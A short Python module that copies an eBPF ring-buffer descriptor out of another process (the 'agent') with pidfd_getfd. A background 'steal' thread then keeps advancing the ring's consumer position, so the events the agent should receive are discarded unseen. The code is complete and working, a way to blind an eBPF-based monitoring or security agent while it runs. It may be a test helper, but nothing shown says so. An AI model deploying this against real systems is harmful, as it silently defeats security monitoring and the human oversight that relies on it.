"""Breaks the way from a ring to its reader: root takes the ring's descriptor out of the agent and empties it first."""

from __future__ import annotations

import contextlib
import ctypes
import mmap
import os
import threading
from collections.abc import Iterator
from pathlib import Path

_SYS_PIDFD_GETFD = 438
_RINGBUF = "27"  # BPF_MAP_TYPE_RINGBUF


def _ring_of(pid: int) -> int:
    """A copy of the descriptor of the only ring of a process."""
    found = {}
    for entry in Path(f"/proc/{pid}/fdinfo").iterdir():
        with contextlib.suppress(FileNotFoundError):
            lines = dict(line.split(":", 1) for line in entry.read_text().splitlines() if ":" in line)
            if lines.get("map_type", "").strip() == _RINGBUF:
                found[lines["map_id"]] = int(entry.name)
    (number,) = found.values()
    libc, pidfd = ctypes.CDLL(None, use_errno=True), os.pidfd_open(pid)
    try:
        copy = int(libc.syscall(_SYS_PIDFD_GETFD, pidfd, number, 0))
    finally:
        os.close(pidfd)
    if copy < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd")
    return copy


@contextlib.contextmanager
def thief(pid: int) -> Iterator[None]:
    """Meanwhile what reaches the ring of the process `pid` (one with one observer) reaches it in vain."""
    ring, stop = _ring_of(pid), threading.Event()
    consumer = mmap.mmap(ring, mmap.PAGESIZE, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
    producer = mmap.mmap(ring, mmap.PAGESIZE, mmap.MAP_SHARED, mmap.PROT_READ, offset=mmap.PAGESIZE)
    consumed, produced = memoryview(consumer).cast("Q"), memoryview(producer).cast("Q")

    def steal() -> None:
        while not stop.wait(0.001):
            consumed[0] = produced[0]

    thread = threading.Thread(target=steal)
    thread.start()
    try:
        yield
    finally:
        stop.set()
        thread.join()
        for view in (consumed, produced):
            view.release()
        consumer.close()
        producer.close()
        os.close(ring)
